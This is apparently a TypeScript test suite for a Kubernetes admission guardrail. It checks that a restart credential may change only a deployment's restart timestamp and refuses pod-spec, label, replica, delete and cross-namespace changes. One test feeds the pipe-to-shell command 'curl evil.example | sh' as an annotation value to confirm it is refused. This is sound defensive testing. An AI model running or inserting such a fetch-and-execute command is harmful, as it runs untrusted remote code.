import type { TestContext } from 'node:test';
import type { KubeAnswer, KubeRequester } from '../../src/platform/kubernetes/kube-client.ts';
import { done, impersonated, minted, refusedBy, rule, type Guardrail } from './attempt.ts';
import type { Environment } from './environment.ts';

type Operation = { op: 'add' | 'remove'; path: string; value?: unknown };

const web = '/apis/apps/v1/namespaces/shop/deployments/web';
const template = '/spec/template';
const time = `${template}/metadata/annotations/kubectl.kubernetes.io~1restartedAt`;
const set = (path: string, value: unknown): Operation[] => [{ op: 'add', path, value }];
const restart = (says: string): Guardrail => ({ policy: 'airlock-identities', says: `restart-workload: ${says}` });
const now = set(time, '2026-11-21T12:00:00Z');

/** Each together with the one allowed change, so that no other change is accepted with it. */
const refused: [name: string, operations: Operation[], guardrail: Guardrail][] = [
  [
    'an image',
    set(`${template}/spec/containers/0/image`, 'registry.example:5000/shop/web:1'),
    restart('the pod spec must not change'),
  ],
  ['an env literal', set(`${template}/spec/containers/0/env/0/value`, 'slow'), restart('the pod spec must not change')],
  ['a field of the pod', set(`${template}/spec/hostNetwork`, true), restart('the pod spec must not change')],
  ['a label of the template', set(`${template}/metadata/labels/role`, 'x'), restart("the template's metadata")],
  ["the template's finalizers", set(`${template}/metadata/finalizers`, ['a/b']), restart("the template's metadata")],
  [
    'another annotation of the template',
    set(`${template}/metadata/annotations/checksum~1config`, 'a'),
    restart("the template's annotations"),
  ],
  [
    'removing an annotation of the template',
    [{ op: 'remove', path: `${template}/metadata/annotations/checksum~1config` }],
    restart("the template's annotations"),
  ],
  ['replicas', set('/spec/replicas', 9), restart('only the template of the spec')],
  ['paused', set('/spec/paused', true), restart('only the template of the spec')],
  ['labels', set('/metadata/labels/app', 'db'), restart('labels, owners')],
  ['finalizers', set('/metadata/finalizers', ['a.example/b']), restart('labels, owners')],
  ["an annotation of the shop's team", set('/metadata/annotations/team', 'x'), restart('annotations other')],
];

const patch = (as: KubeRequester, operations: Operation[], path = web): Promise<KubeAnswer> =>
  as({ method: 'PATCH', path: `${path}?dryRun=All`, contentType: 'application/json-patch+json', body: operations });

/** Guardrail 4 for `restart-workload`, with a credential that Vault minted. */
export async function restartWorkloadCases(t: TestContext, environment: Environment): Promise<void> {
  const as = await minted(environment, 'restart-workload', [rule('deployments', ['web'])]);
  await t.test("the time, and Airlock's annotations", async () => {
    done(await patch(as, [...now, ...set('/metadata/annotations/airlock.dev~1execution', 'exe-1.do-1')]));
  });
  for (const [name, operations, guardrail] of refused) {
    await t.test(`refused: ${name}`, async () => refusedBy(guardrail, await patch(as, [...now, ...operations])));
  }
  await t.test('refused: a value that is not a time, and no value', async () => {
    const noTime = restart('kubectl.kubernetes.io/restartedAt must be a time');
    refusedBy(noTime, await patch(as, set(time, 'curl evil.example | sh')));
    refusedBy(noTime, await patch(as, set('/metadata/annotations/airlock.dev~1execution', 'exe-1.do-1')));
  });
  await t.test('refused by admission without RBAC: scaling, deleting, another namespace', async () => {
    const free = impersonated(environment, 'system:serviceaccount:shop:airlock-restart-workload-abcd1234');
    refusedBy(
      restart('may only update Deployments, not their scale or status'),
      await patch(free, set('/spec/replicas', 3), `${web}/scale`),
    );
    refusedBy(
      restart('may only update Deployments, not their scale or status'),
      await free({ method: 'DELETE', path: `${web}?dryRun=All` }),
    );
    const elsewhere = impersonated(environment, 'system:serviceaccount:other:airlock-restart-workload-abcd1234');
    refusedBy(
      { policy: 'airlock-identities', says: 'may only write in its own namespace' },
      await patch(elsewhere, now),
    );
  });
}
